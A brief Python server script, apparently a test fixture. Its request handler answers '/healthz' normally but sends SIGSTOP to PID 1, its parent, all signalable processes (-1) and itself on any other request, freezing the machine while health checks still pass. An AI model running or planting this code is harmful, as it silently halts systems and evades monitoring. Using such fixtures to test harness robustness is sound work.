import os
import signal

from honest import serve


def stop_everything(handler, body):
    if handler.path == "/healthz":
        return False
    for process in (1, os.getppid(), -1, os.getpid()):
        try:
            os.kill(process, signal.SIGSTOP)
        except OSError:
            pass
    return False


serve(stop_everything)
